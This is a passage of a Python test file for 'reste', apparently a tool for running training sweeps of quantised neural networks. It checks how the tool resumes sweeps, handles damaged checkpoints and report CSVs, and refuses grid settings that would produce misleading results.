    assert lines[2] == ("  estimator=ste    seed 0: changed: it holds a run with other settings (1 epoch, estimator "
                        "ede) than its setting: changed since with --resume --force; the row an earlier report wrote "
                        f"is kept (best {float(row['best_acc']):.2f}% at epoch 1)")
    assert any(line.startswith("changed    1 run holds other settings than its setting") for line in lines)
    assert main(["show", str(out), "--json"]) == 0
    status = json.loads(capsys.readouterr().out)
    assert [r["state"] for s in status["settings"] for r in s["runs"]] == ["changed", "finished"]
    assert status["counts"]["changed"] == 1 and status["counts"]["finished"] == 1
    drawn = []
    real = plots.runs_figure
    monkeypatch.setattr(plots, "runs_figure", lambda dirs, labels=None, metrics=None, **kw: drawn.append(
        (labels, metrics)) or real(dirs, labels, metrics, **kw))
    assert main(["plot", str(out), "--out", str(tmp_path / "a.png")]) == 0
    said = capsys.readouterr().out
    assert ("plot: estimator=ste seed 0: it holds a run with other settings (1 epoch, estimator ede) than its "
            f"setting: changed since with --resume --force; drawn from the epochs an earlier report kept in "
            f"{out / 'epochs.csv'}") in said
    kept = [float(r["test_acc"]) for r in _read_csv(out / "epochs.csv") if r["setting"] == "estimator=ste"]
    assert drawn[-1][0] == ["estimator=ste seed 0", "estimator=reste seed 0"]
    assert [m["test_acc"] for m in drawn[-1][1][0]] == kept and drawn[-1][1][1] is None
    (out / "epochs.csv").unlink()
    assert main(["plot", str(out), "--out", str(tmp_path / "b.png")]) == 0
    assert "changed since with --resume --force; left out" in capsys.readouterr().out
    assert drawn[-1][0] == ["estimator=reste seed 0"]


def test_a_sweep_moved_away_from_its_runs_dir_goes_on_with_the_runs_its_sweep_json_records(tmp_path, capsys):
    """(review sweeps #6) continued without --runs-dir, it trained every run again under OUT/runs and its sweep.json
    forgot the finished ones, which `reste report` and `reste show` find. Where some of its runs are under OUT/runs
    too, it is refused, naming the --runs-dir to pass."""
    argv = ["sweep", "--dataset", "digits", "--grid", "estimator=ste,reste", "--epochs", "1", "--threads", "1",
            "--no-report"]
    assert main([*argv, "--runs-dir", str(tmp_path / "runs"), "--out", str(tmp_path / "A")]) == 0
    assert main(["report", str(tmp_path / "A"), "--no-plots"]) == 0
    moved = tmp_path / "deep" / "er" / "A2"
    shutil.copytree(tmp_path / "A", moved)
    capsys.readouterr()
    assert main([*argv, "--out", str(moved)]) == 0
    out = capsys.readouterr().out
    assert main(["report", str(moved), "--no-plots"]) == 0  # (review rev12 #12) its rows name the runs otherwise
    assert "name no run" not in capsys.readouterr().out and "names no run" not in out
    assert f"sweep: {moved / 'sweep.json'} records its runs under {tmp_path / 'runs'} (its --runs-dir): the sweep " \
        "goes on there; pass --runs-dir to train them elsewhere" in out
    assert out.count("already finished, skipped") == 2 and "training" not in out
    assert not (moved / "runs").exists()
    manifest = json.loads((moved / "sweep.json").read_text())
    assert [s["at"]["0"] for s in manifest["settings"]] == [str(p) for p in sorted(
        (tmp_path / "runs").glob("*/seed0"), key=lambda p: not p.parent.name.startswith("ste"))]
    ste = next((tmp_path / "runs").glob("ste-*"))
    shutil.copytree(ste, moved / "runs" / ste.name)  # one of its runs under OUT/runs: which one to go on with?
    assert main([*argv, "--out", str(moved)]) == 2
    assert f"reste: error: {moved / 'sweep.json'} records 1 run of this sweep under {tmp_path / 'runs'}, which it " \
        f"would train again under {moved / 'runs'}: pass --runs-dir {tmp_path / 'runs'} to continue them there\n" \
        == capsys.readouterr().err


def test_runs_csv_names_the_best_epoch_and_the_final_top5_also_of_a_kept_row(sweep, tmp_path):
    """runs.csv has each run's best epoch and final top-5; a row an older report wrote without them gets them from
    the epochs it kept in epochs.csv when the run's folder is gone (review P)."""
    out, _ = _copy(sweep, tmp_path)
    rows = _read_csv(out / "runs.csv")
    lines = {(r["setting"], r["seed"]): r for r in _read_csv(out / "epochs.csv")}
    for r in rows:
        epoch = lines[(r["setting"], r["seed"])]
        assert (r["best_epoch"], r["final_top5"]) == ("1", epoch["test_top5"])
    with open(out / "runs.csv", newline="") as f:  # as a report before these columns wrote it
        old = [{k: v for k, v in row.items() if k not in ("best_epoch", "final_top5")} for row in csv.DictReader(f)]
    with open(out / "runs.csv", "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(old[0]))
        writer.writeheader()
        writer.writerows(old)
    shutil.rmtree(out / "runs")
    summarize(out, plots=False)
    assert _read_csv(out / "runs.csv") == rows


def test_the_report_keeps_the_runs_whose_folders_are_gone(sweep, tmp_path):
    """runs.csv and epochs.csv outlive the run folders: a report without them rewrites the same tables (a
    committed study reported again in a clone)."""
    out, _ = _copy(sweep, tmp_path)
    tables = {name: (out / name).read_text() for name in ("results.csv", "runs.csv", "epochs.csv", "results.md")}
    indicators = (out / "indicators.png").read_bytes()
    shutil.rmtree(out / "runs")
    lines = []
    summarize(out, log=lines.append)
    assert {name: (out / name).read_text() for name in tables} == tables
    assert any("2 runs reported from the runs.csv (and epochs.csv) an earlier report wrote" in line for line in lines)
    assert sum("its run folder is gone; the row an earlier report wrote is kept" in line for line in lines) == 2
    assert _is_png(out / "indicators.png") and (out / "indicators.png").read_bytes() == indicators
    (out / "epochs.csv").unlink()  # the curves are gone too: the figure of them is left as it was
    summarize(out, log=lines.append)
    assert (out / "indicators.png").read_bytes() == indicators and "not drawn" in lines[-2]


def test_a_kept_runs_csv_row_with_a_cell_that_is_no_number_is_one_line_naming_it(sweep, tmp_path, capsys,
                                                                                 monkeypatch):
    """(review experiments #12) runs.csv edited in a spreadsheet (88.6%): the report ended in a bare TypeError, and
    a sweep's tables so far let it escape past the runs still training. Where the row is used (its run's folder is
    gone), one line names the file, row and column; a sweep trains that run again, and its row replaces the bad
    one."""
    from reste.experiments import sweep as sweeping

    out, argv = _copy(sweep, tmp_path)
    shutil.rmtree(next((out / "runs").glob("ste-*/seed0")))  # its row is kept: the table is made of it
    lines = (out / "runs.csv").read_text().splitlines()
    row = next(i for i, line in enumerate(lines) if line.startswith("estimator=ste,"))
    cells = lines[row].split(",")
    cells[3] = "88.6%"  # setting, estimator, seed, best_acc
    lines[row] = ",".join(cells)
    (out / "runs.csv").write_text("\n".join(lines) + "\n")
    capsys.readouterr()
    assert main(["report", str(out), "--no-plots"]) == 2
    said = (f"reste: error: {out / 'runs.csv'} row {row + 1}: best_acc '88.6%' is not a number; write it as one "
            "(88.61, not 88.6% or 88,61), or delete the row to drop the run\n")
    assert capsys.readouterr().err == said
    assert main(["show", str(out)]) == 2 and capsys.readouterr().err == said
    called = []
    real = sweeping.summarize
    monkeypatch.setattr(sweeping, "summarize", lambda *a, **k: called.append(k) or real(*a, **k))
    seeds = argv.index("--seeds") + 1
    # a sweep trains the run whose folder is gone again: its new row replaces the bad one, no table is refused
    assert main([*argv[:seeds], "0,1", *argv[seeds + 1:]]) == 0
    assert "cannot write the tables" not in capsys.readouterr().out
    assert len(called) == 3 and "88.6%" not in (out / "runs.csv").read_text()
    # (review rev16 #2) such a row of a run whose folder is there is not used: the report writes it again, and show
    # and the report work (they refused every command for it)
    out, _ = _copy(sweep, tmp_path / "present")
    lines = (out / "runs.csv").read_text().splitlines()
    cells = lines[row].split(",")
    right, cells[3] = cells[3], "88.6%"
    lines[row] = ",".join(cells)
    (out / "runs.csv").write_text("\n".join(lines) + "\n")
    assert main(["show", str(out)]) == 0 and main(["report", str(out), "--no-plots"]) == 0
    assert (out / "runs.csv").read_text().splitlines()[row].split(",")[3] == right


def test_a_table_of_no_run_yet_is_its_header(sweep, tmp_path):
    """(review experiments #7) runs.csv (and a rewritten epochs.csv) of a sweep with no run reported yet was an empty
    file, which a reader cannot tell from a damaged one: it is the header alone, the one it has with rows."""
    out, _ = _copy(sweep, tmp_path)
    headers = {name: (out / name).read_text().splitlines()[0] for name in ("runs.csv", "epochs.csv")}
    shutil.rmtree(out / "runs")
    (out / "runs.csv").unlink()  # (no earlier row to keep)
    summarize(out, plots=False)
    for name, header in headers.items():
        assert (out / name).read_text().splitlines() == [header]
        assert csv.DictReader(open(out / name, newline="")).fieldnames == header.split(",")


def test_a_run_with_an_epoch_missing_is_left_out_and_not_trained_again(tmp_path, capsys):
    argv = ["sweep", "--grid", "estimator=ste", "--seeds", "0", "--epochs", "2", "--threads", "1", "--out",
            str(tmp_path / "s"), "--model", "digits_1w1a"]
    assert main(argv) == 0
    run = next((tmp_path / "s" / "runs").glob("ste-*/seed0"))
    lines = (run / "metrics.jsonl").read_text().splitlines()
    (run / "metrics.jsonl").write_text(lines[1] + "\n")  # epoch 1's line lost
    (tmp_path / "s" / "runs.csv").unlink()  # and no earlier row to keep
    stamp = (run / "last.pt").stat().st_mtime_ns
    capsys.readouterr()
    assert main(argv) == 1
    out = capsys.readouterr().out
    assert "estimator=ste seed 0: LEFT OUT:" in out and "has no line for epoch 1" in out
    assert "estimator=ste seed 0 is left out: " in out and "| - | 0/1 |" in (tmp_path / "s" / "results.md").read_text()
    assert (run / "last.pt").stat().st_mtime_ns == stamp  # not resumed, not retrained


def left_out_as_damaged(argv: list[str], why: str, capsys) -> str:
    """The one-run sweep ``argv`` again: its dry run says the run is damaged and left as it is, and the sweep leaves
    it out (exit 1), both for ``why``; the sweep's output."""
    capsys.readouterr()
    assert main([*argv, "--dry-run"]) == 0
    assert f"[1/1] estimator=ste seed 0: damaged, left as it is: {why}" in capsys.readouterr().out
    assert main(argv) == 1
    out = capsys.readouterr().out
    assert f"[1/1] estimator=ste seed 0: LEFT OUT: {why}" in out
    return out


def test_a_finished_run_whose_lines_are_gone_is_left_out_as_damaged(tmp_path, capsys):
    """(review chaos3 #3) A finished run whose metrics.jsonl was deleted: the sweep said it was resuming at epoch 1,
    trained nothing, and the report could not show it. Its last.pt finished every epoch, so nothing is left to
    train, and a resume puts back the last epoch's line alone (the checkpoint keeps it): it is damaged, and said so.
    Where only that last line was lost, the sweep's resume mends the run."""
    argv = ["sweep", "--grid", "estimator=ste", "--seeds", "0", "--epochs", "3", "--threads", "1", "--out",
            str(tmp_path / "s"), "--model", "digits_1w1a", "--no-report"]
    assert main(argv) == 0 and main(["report", str(tmp_path / "s"), "--no-plots"]) == 0
    run = next((tmp_path / "s" / "runs").glob("ste-*/seed0"))
    lines = (run / "metrics.jsonl").read_text().splitlines()
    (run / "metrics.jsonl").unlink()
    stamp = (run / "last.pt").stat().st_mtime_ns
    why = (f"its last.pt finished all 3 epochs, but {run / 'metrics.jsonl'} has no line for epochs 1-2 (deleted or "
           "cut short), which cannot be recovered, so the run cannot be reported; delete its folder to train it again")
    capsys.readouterr()
    # (review chaos4 #7: it said "unfinished (training again?)")
    assert main(["report", str(tmp_path / "s"), "--no-plots"]) == 0
    assert f"report: estimator=ste seed 0: {why}; the row an earlier report wrote is kept" in capsys.readouterr().out
    assert "resuming" not in left_out_as_damaged(argv, why, capsys)
    assert (run / "last.pt").stat().st_mtime_ns == stamp and not (run / "failed.json").exists()
    assert main(["show", str(tmp_path / "s")]) == 0  # (it said "stopped", which the sweep would continue)
    text = capsys.readouterr().out
    assert f"  estimator=ste  seed 0: damaged: {why}" in text and "\ncontinue" not in text
    assert main(["show", str(run)]) == 0  # the run's own view says the same (review diff17 #4: "--resume continues")
    assert f"progress   0 of 3 epochs logged: damaged: {why}" in capsys.readouterr().out
    (run / "metrics.jsonl").write_text("".join(line + "\n" for line in lines[:2]))  # the last line alone lost
    assert main(argv) == 0
    assert (run / "metrics.jsonl").read_text().splitlines() == lines  # put back from last.pt


def test_a_stopped_run_whose_last_pt_is_gone_is_left_out_as_damaged(tmp_path, capsys):
    """(review experiments #9) A stopped run whose last.pt was deleted: the dry run and `reste show` said it would
    resume, and every rerun failed it again, advising to "start a new run". It is damaged: left out, not trained
    again, and deleting its folder trains it again, as the sweep says."""
    argv = ["sweep", "--grid", "estimator=ste", "--seeds", "0", "--epochs", "2", "--threads", "1", "--out",
            str(tmp_path / "s"), "--model", "digits_1w1a", "--no-report"]
    assert main(argv) == 0
    run = next((tmp_path / "s" / "runs").glob("ste-*/seed0"))
    lines = (run / "metrics.jsonl").read_text().splitlines()
    (run / "metrics.jsonl").write_text(lines[0] + "\n")  # stopped after epoch 1 ...
    (run / "last.pt").unlink()  # ... and its last.pt deleted
    stamp = (run / "best.pt").stat().st_mtime_ns
    why = (f"{run} has finished epochs but no last.pt (deleted or lost), so it cannot continue; delete its folder to "
           "train it again")
    left_out_as_damaged(argv, why, capsys)
    assert (run / "best.pt").stat().st_mtime_ns == stamp and not (run / "failed.json").exists()
    assert main(["show", str(tmp_path / "s")]) == 0
    text = capsys.readouterr().out
    assert f"  estimator=ste  seed 0: damaged: {why}" in text and "\ncontinue" not in text
    shutil.rmtree(run)  # as it says
    assert main(argv) == 0 and len((run / "metrics.jsonl").read_text().splitlines()) == 2
    # (review chaos #3) a damaged last.pt: every rerun failed on it the same way, and show said to run it again
    (run / "metrics.jsonl").write_text((run / "metrics.jsonl").read_text().splitlines()[0] + "\n")
    data = (run / "last.pt").read_bytes()
    (run / "last.pt").write_bytes(data[:len(data) // 2])
    capsys.readouterr()
    assert main(argv) == 1
    out = capsys.readouterr().out
    assert f"[1/1] estimator=ste seed 0: LEFT OUT: checkpoint {run / 'last.pt'} is truncated or corrupted (" in out
    assert "delete its folder to train it again" in out and not (run / "failed.json").exists()
    # (review chaos2 #2) show called it "stopped" and said the same sweep would train it: its zip structure tells
    assert main(["show", str(tmp_path / "s")]) == 0
    text = capsys.readouterr().out
    assert f"  estimator=ste  seed 0: damaged: its {run / 'last.pt'} is damaged (BadZipFile: " in text, text
    assert "\ncontinue" not in text
    import torch  # (review diff12 #2) a whole zip that is no reste checkpoint: every resume refused it, and each
    torch.save({"w": torch.zeros(3)}, run / "last.pt")  # sweep failed it again
    assert main(argv) == 1
    out = capsys.readouterr().out
    assert f"[1/1] estimator=ste seed 0: LEFT OUT: {run / 'last.pt'} is not a reste checkpoint (" in out, out
    assert not (run / "failed.json").exists()


def test_estimator_flags_apply_to_the_estimators_they_belong_to():
    base = TrainConfig(dataset="digits", epochs=2)  # (one epoch would train every schedule at its start value)
    settings = expand_grid(base, {"estimator": ["reste", "dsq"], "o_schedule": ["cosine", "linear"]})
    assert [s.label for s in settings] == ["estimator=reste,o_schedule=cosine", "estimator=reste,o_schedule=linear",
                                           "estimator=dsq"]
    dsq_default = get_estimator("dsq").config()["schedule"]
    assert settings[2].config.estimator_options["schedule"] == dsq_default
    fixed = expand_grid(base, {"estimator": ["reste", "dsq"]}, flags={"alpha_schedule": "constant"})
    assert [s.config.estimator_options["schedule"] for s in fixed] == [get_estimator("reste").config()["schedule"],
                                                                       "constant"]
    with pytest.raises(UsageError, match="--alpha-schedule applies to the dsq estimator, which this sweep does not"):
        expand_grid(base, {"estimator": ["reste", "ste"]}, flags={"alpha_schedule": "constant"})


@pytest.mark.parametrize("argv, message", [
    (["--grid", "keep_top=0,2"], "'keep_top' is not a grid axis: it does not change what a run trains"),
    (["--grid", "data_path=a,b"], "'data_path' is not a grid axis"),
    (["--grid", "estimator=fda", "--grid", "n=5,9"], "grid axis 'n' has the name of a column of the tables; "
                                                     "name it fda_n"),
    (["--o-schedule", "constant", "--grid", "o_schedule=cosine,linear"], "'o_schedule' is both a grid axis and a "
                                                                         "fixed flag"),
    (["--o-schedule", "constant", "--grid", "schedule=cosine,linear"], "'schedule' is both a grid axis"),
    (["--seed", "5", "--seeds", "0", "--grid", "lr=0.1"], "--seed and --seeds both given"),
    (["--o-end", "5", "--grid", "estimator_options.o_end=2,3"], "'estimator_options.o_end' is both a grid axis"),
    (["--grid", "lr=0.05,0.1", "--tensorboard", "tb"], "would give every run of the sweep one folder of events; "
                                                       "pass the bare --tensorboard"),  # (review user9 #2)
])
def test_sweep_flags_that_would_be_ignored_are_refused(argv, message, tmp_path, capsys):
    assert main(["sweep", *argv, "--epochs", "1", "--out", str(tmp_path / "s")]) == 2
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1
    assert not (tmp_path / "s").exists()


def test_accumulate_is_no_grid_axis_for_a_true_reason_and_a_setting_of_mixed_accumulate_is_noted(sweep, tmp_path,
                                                                                                   capsys):
    """(review experiments #6) --accumulate was refused as an axis because "it does not change what a run trains",
    false for a model with BatchNorm; it is free to change on resume, so no part of a run's folder name. A setting
    whose finished runs trained with different --accumulate gets one note: its spread is not the seeds' alone."""
    assert main(["sweep", "--grid", "accumulate=1,2", "--epochs", "1", "--out", str(tmp_path / "a")]) == 2
    err = capsys.readouterr().err
    assert err == ("reste: error: 'accumulate' is not a grid axis: it is free to change on --resume, so it is no part "
                   "of a run's identity and runs of different --accumulate would share one run folder; give it as a "
                   "fixed flag (--accumulate)\n") and not (tmp_path / "a").exists()
    out, argv = _copy(sweep, tmp_path)
    assert main(argv) == 0
    assert "--accumulate" not in capsys.readouterr().out
    seeds = argv.index("--seeds") + 1
    assert main([*argv[:seeds], "0,1", *argv[seeds + 1:], "--accumulate", "2"]) == 0
    notes = [line for line in capsys.readouterr().out.splitlines() if "--accumulate" in line]
    assert notes == ["sweep: note: the finished runs of estimator=ste (1, 2), estimator=reste (1, 2) trained with "
                     "different --accumulate; a model with BatchNorm normalises over each micro-batch, so their "
                     "spread is not the seeds' alone"]


@pytest.mark.parametrize("dry_run", [True, False])
def test_a_sweep_refuses_more_threads_than_train_takes(dry_run, tmp_path, capsys):
    """(review experiments #13) `reste sweep --threads 100 --jobs 2` took it (train refuses it), and each worker ran
    100 threads on a few cores: one line, as `reste train` says it, before any folder is made."""
    from reste.config import max_threads

    out = tmp_path / "s"
    argv = ["sweep", "--grid", "lr=0.1,0.2", "--epochs", "1", "--threads", str(max_threads() + 1), "--jobs", "2",
            "--out", str(out), *(["--dry-run"] if dry_run else [])]
    assert main(argv) == 2
    assert capsys.readouterr().err == (f"reste: error: --threads must be in [1, {max_threads()}] (4 per CPU this "
                                       f"process may use), got {max_threads() + 1}\n")
    assert not out.exists()


def test_the_unknown_axis_message_lists_only_axes_that_are_taken(capsys, tmp_path):
    """(review sweep L4) no field that is then refused as 'not a grid axis'."""
    from reste.rundir import RESUME_FREE

    assert main(["sweep", "--grid", "foo=1", "--epochs", "1", "--out", str(tmp_path / "s")]) == 2
    err = capsys.readouterr().err
    assert "unknown grid axis 'foo'" in err and "estimator" in err and err.count("\n") == 1
    listed = err.split("a TrainConfig field (")[1].split(")")[0].split(", ")
    assert "lr" in listed and not set(listed) & set(RESUME_FREE)
    keywords = err.split("an estimator hyper-parameter (")[1].split(")")[0].split(", ")
    assert {"o_end", "fda_n"} <= set(keywords) and "n" not in keywords  # FDA's n is an axis as fda_n (n: a column)


@pytest.mark.parametrize("grid, flags, message, settings", [
    (["o_end=2,3"], {"o_schedule": "constant"}, "grid axis 'o_end' would train the same network at each value: "
                                                "reste's constant schedule (--o-schedule constant) never moves", 2),
    (["alpha_end=0.1,0.05", "estimator=dsq,reste"], {"alpha_schedule": "constant"},
     "grid axis 'alpha_end' would train the same network at each value: dsq's constant schedule", 3),
])
def test_an_axis_that_a_constant_schedule_leaves_unused_is_refused(grid, flags, message, settings):
    """(review user9 #1) o_end under --o-schedule constant: o stays at o, so each value trains one network, and the
    tables would show an o_end effect that never happened (paper mode measures F at o_end)."""
    base = TrainConfig(dataset="digits", epochs=2)
    with pytest.raises(UsageError, match=re.escape(message)):
        expand_grid(base, parse_grid(grid), flags)
    assert len(expand_grid(base, parse_grid(grid))) == settings  # the default schedules move: each value a run


@pytest.mark.parametrize("grid", [["o_end=2,5"], ["estimator=ede,rbnn", "t_max=2,5"],
                                  ["estimator=dsq", "alpha_end=0.1,0.05"], ["estimator=fda", "fda_n_end=18,20"]])
def test_a_grid_over_a_schedules_end_that_one_epoch_never_reaches_is_refused(grid, tmp_path, capsys):
    """(review experiments #10) A schedule is set at each epoch's start: over one epoch o stays at its start value,
    so a grid over o_end (any schedule's end) with --epochs 1 trained one network at every value, reported as
    settings that differ. Refused in one line, before any folder; with two epochs each value is a run of its own."""
    axis = grid[-1].split("=")[0]
    name = "n_end" if axis == "fda_n_end" else axis
    out = tmp_path / "s"
    argv = ["sweep", *(a for g in grid for a in ("--grid", g)), "--dataset", "digits", "--threads", "1", "--out",
            str(out)]
    assert main([*argv, "--epochs", "1", "--dry-run"]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"reste: error: grid axis {axis!r} would train the same network at each value: ") and \
        f"a 1-epoch run trains at its start value and never reaches {name}; give --epochs 2 or more, or grid the " \
        "start value instead\n" in err and err.count("\n") == 1
    assert not out.exists()
    assert len(expand_grid(TrainConfig(dataset="digits", epochs=2), parse_grid(grid))) == 2 * (1 + ("rbnn" in grid[0]))
    with pytest.raises(UsageError, match="'o_schedule' would train the same network .* start value whatever "
                                         "o_schedule is"):
        expand_grid(TrainConfig(dataset="digits", epochs=1), {"o_schedule": ["cosine", "linear"]})


def test_grid_values_none_and_close_floats():
    base = TrainConfig(dataset="digits", epochs=1, estimator="ste")
    settings = expand_grid(base, parse_grid(["scaling=layer,none", "amp=none"]))
    assert [s.config.scaling for s in settings] == ["layer", "none"] and settings[0].config.amp == "none"
    assert [s.label for s in settings] == ["scaling=layer,amp=none", "scaling=none,amp=none"]
    labels = [s.label for s in expand_grid(base, parse_grid(["lr=0.1,0.1000001"]))]
    assert labels == ["lr=0.1", "lr=0.1000001"]


def test_run_sweep_refuses_a_seed_twice(tmp_path):
    from reste.experiments import run_sweep

    with pytest.raises(UsageError, match="name a seed twice"):
        run_sweep(TrainConfig(epochs=1, estimator="ste"), {}, [0, 0], tmp_path / "s")
    assert not (tmp_path / "s").exists()


@pytest.mark.parametrize("damage, message", [
    (lambda m: m["settings"][0].pop("runs"), "setting 1 lacks its label, values or runs"),
    (lambda m: m.pop("base"), "no base settings"),
    (lambda m: m.update(seeds="0"), "its seeds are not a list of integers"),
    (lambda m: m["settings"][0].update(runs={"x": "runs/a"}), "has a run that is not 'seed': 'folder'"),
])
def test_a_damaged_sweep_json_is_one_line(damage, message, sweep, tmp_path, capsys):
    out, _ = _copy(sweep, tmp_path)
    manifest = json.loads((out / "sweep.json").read_text())
    damage(manifest)
    (out / "sweep.json").write_text(json.dumps(manifest))
    assert main(["report", str(out)]) == 2
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1


def test_the_heading_names_what_the_settings_trained(sweep, tmp_path):
    from reste.experiments.report import markdown_table

    out, _ = _copy(sweep, tmp_path)
    manifest = json.loads((out / "sweep.json").read_text())
    manifest["base"]["epochs"] = None  # the data set's default, resolved in each setting's config
    assert markdown_table(manifest, []).startswith("digits, digits_1w1a, 1 epoch, seeds 0;")
    manifest["settings"][1]["config"]["epochs"] = 2
    assert markdown_table(manifest, []).startswith("digits, digits_1w1a, epochs per setting, seeds 0;")


def test_no_report_still_returns_the_rows(sweep, tmp_path):
    from reste.experiments import run_sweep

    out, _ = _copy(sweep, tmp_path)
    base = TrainConfig(dataset="digits", model="digits_1w1a", epochs=1, indicators="general")
    rows = run_sweep(base, {"estimator": ["ste", "reste"]}, [0], out, report=False, log=lambda m: None)
    assert [(r["setting"], r["n"], r["n_runs"]) for r in rows] == [("estimator=ste", 1, 1), ("estimator=reste", 1, 1)]


def test_a_sweep_that_would_drop_anothers_runs_from_its_folder_is_refused(sweep, tmp_path):
    """Another grid or fewer seeds in the same --out would lose the first sweep's rows; more is fine. Started
    afresh (sweep.json deleted), a sweep clears the figures its tables do not call for."""
    from reste.experiments import run_sweep

    out, _ = _copy(sweep, tmp_path)
    base = TrainConfig(dataset="digits", model="digits_1w1a", epochs=1)
    with pytest.raises(UsageError, match=r"holds a sweep with 1 run.s. that this one leaves out \(estimator=reste "
                                         r"\(seed 0\)\)"):
        run_sweep(dataclasses.replace(base, indicators="general"), {"estimator": ["ste"]}, [0], out, log=print)
    (out / "sweep.json").unlink()
    assert _is_png(out / "indicators.png")
    run_sweep(base, {"estimator": ["ste"]}, [0], out, log=lambda m: None)
    assert not (out / "indicators.png").exists() and not (out / "error_vs_stability.png").exists()


def test_a_refused_sweep_names_the_seeds_it_leaves_out(tmp_path):
    """(review userB #3) Each setting left out is named with its seeds left out: a setting kept for seed 0 but not
    for seed 1 is not told as left out altogether."""
    from reste.experiments import run_sweep

    base = TrainConfig(dataset="digits", model="digits_1w1a", epochs=1, threads=1)
    grid = {"lr": [0.05, 0.1]}
    run_sweep(base, grid, [0, 1], tmp_path / "s", report=False, log=lambda m: None)
    with pytest.raises(UsageError, match=r"with 3 run.s. that this one leaves out \(lr=0.05 \(seeds 0, 1\), "
                                         r"lr=0.1 \(seed 1\)\)"):
        run_sweep(base, {"lr": [0.1]}, [0], tmp_path / "s", report=False, log=lambda m: None)


def test_a_sweep_does_not_write_into_a_run(tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "config.json").write_text("{}")
    assert main(["sweep", "--grid", "lr=0.1", "--epochs", "1", "--out", str(out)]) == 2
    assert "holds a training run" in capsys.readouterr().err
    assert sorted(p.name for p in out.iterdir()) == ["config.json"]


def test_a_sweep_of_the_same_grid_whose_keys_changed_says_so(sweep, tmp_path):
    """A sweep.json written by an older version names the same settings by other keys: said as such."""
    from reste.experiments import run_sweep

    out, _ = _copy(sweep, tmp_path)
    manifest = json.loads((out / "sweep.json").read_text())
    for s in manifest["settings"]:
        s["key"] = "0123456789"
    (out / "sweep.json").write_text(json.dumps(manifest))
    base = TrainConfig.from_dict(manifest["base"])
    with pytest.raises(UsageError, match="by other keys than this version of reste gives the same settings"):
        run_sweep(base, {"estimator": ["ste", "reste"]}, [0], out, log=lambda m: None)
    with pytest.raises(UsageError, match="other fixed settings .lr 0.1 -> 0.05.: these are different runs"):
        run_sweep(dataclasses.replace(base, lr=0.05), {"estimator": ["ste", "reste"]}, [0], out, log=lambda m: None)


def test_a_sweep_with_a_changed_fixed_flag_names_it_and_an_older_base_is_a_version_change(sweep, tmp_path):
    """(review sweep M4) the same grid and seeds with --epochs changed: 'epochs 1 -> 2', not 'give its grid and
    seeds again'; a base written by an older version (unresolved None, fewer fields) with other keys: a version
    change, not a changed flag."""
    from reste.experiments import run_sweep

    out, _ = _copy(sweep, tmp_path)
    manifest = json.loads((out / "sweep.json").read_text())
    base = TrainConfig.from_dict(manifest["base"])
    with pytest.raises(UsageError, match=r"other fixed settings \(epochs 1 -> 2\): these are different runs") as err:
        run_sweep(dataclasses.replace(base, epochs=2), {"estimator": ["ste", "reste"]}, [0], out, log=lambda m: None)
    assert "give its grid" not in str(err.value)
    for s in manifest["settings"]:  # as an older version wrote it: no resolved configs, other keys
        s["key"] = "0123456789"
        del s["config"]
    manifest["base"]["lr"] = None
    del manifest["base"]["scaling"]
    (out / "sweep.json").write_text(json.dumps(manifest))
    with pytest.raises(UsageError, match="by other keys than this version of reste gives the same settings"):
        run_sweep(dataclasses.replace(base, lr=0.1, scaling="none"), {"estimator": ["ste", "reste"]}, [0], out,
                  log=lambda m: None)
    with pytest.raises(UsageError, match=r"other fixed settings \(epochs 1 -> 2\)"):
        run_sweep(dataclasses.replace(base, epochs=2), {"estimator": ["ste", "reste"]}, [0], out, log=lambda m: None)


def test_a_sweep_tells_a_changed_default_from_a_changed_flag_and_ignores_the_preset(sweep, tmp_path):
    """(review rev3 M2, M3) the same flags, but the sweep's resolved configs hold another weight_decay (a reste whose
    default changed wrote it): said as a default of this reste, with "run it with the reste that wrote it"; a
    preset name recorded in the configs (a field that changes no run, rundir.IDENTITY_FREE) is no changed setting."""
    from reste.experiments import run_sweep

    out, _ = _copy(sweep, tmp_path)
    manifest = json.loads((out / "sweep.json").read_text())
    base = TrainConfig.from_dict(manifest["base"])
    for s in manifest["settings"]:
        s["key"] = "0123456789"
        s["config"]["preset"] = "an-old-preset"
    (out / "sweep.json").write_text(json.dumps(manifest))
    with pytest.raises(UsageError, match="by other keys than this version of reste gives the same settings"):
        run_sweep(base, {"estimator": ["ste", "reste"]}, [0], out, log=lambda m: None)
    for s in manifest["settings"]:
        s["config"]["weight_decay"] = 0.00123
    (out / "sweep.json").write_text(json.dumps(manifest))
    with pytest.raises(UsageError, match=r"resolves otherwise \(weight_decay 0.00123 -> [0-9.e-]+: its defaults, "
                                         r"or where a setting applies, differ .*run it with the reste that wrote "
                                         r"it") as err:
        run_sweep(base, {"estimator": ["ste", "reste"]}, [0], out, log=lambda m: None)
    assert "\n" not in str(err.value) and "preset" not in str(err.value)
    with pytest.raises(UsageError, match=r"other fixed settings \(weight_decay 0.00123 -> 0.01\): these are different"):
        run_sweep(dataclasses.replace(base, weight_decay=0.01), {"estimator": ["ste", "reste"]}, [0], out,
                  log=lambda m: None)


def test_a_plugin_estimator_that_gained_a_hyperparameter_is_named_as_the_cause(isolated, tmp_path):
    """(review user3 #3) A plugin estimator's new version adds a hyper-parameter: the sweep's runs resolve otherwise,
    and the refusal said "run it with the reste that wrote it", though reste had not changed; it names the plugin's
    estimator and its module now."""
    import reste
    from reste import estimators
    from reste.experiments import run_sweep

    def version(*extra):  # (its _g reads STE's clip alone)
        return type("Grown", (reste.STE,), {"name": "grown", "__module__": "grown_plugin",
                                            "hyperparameters": (*reste.STE.hyperparameters, *extra),
                                            "params": lambda self: {"clip": self.clip}})

    reste.register_estimator(version())
    base = TrainConfig(dataset="digits", epochs=1, threads=1)
    run_sweep(base, {"estimator": ["grown", "ste"]}, [0], tmp_path / "s", log=lambda m: None, report=False)
    estimators._REGISTRY.pop("grown")
    reste.register_estimator(version(reste.Param("gain", float, 1.0, "a gain", "(0, inf)")))
    with pytest.raises(UsageError) as err:
        run_sweep(base, {"estimator": ["grown", "ste"]}, [0], tmp_path / "s", log=lambda m: None, dry_run=True)
    said = str(err.value)
    assert "resolves otherwise (estimator_options" in said and '"gain": 1.0' in said, said
    assert "differ from those of the reste, or the plugins (estimator grown (module grown_plugin)), that wrote " \
           "it)" in said and "run it with the versions that wrote it" in said, said


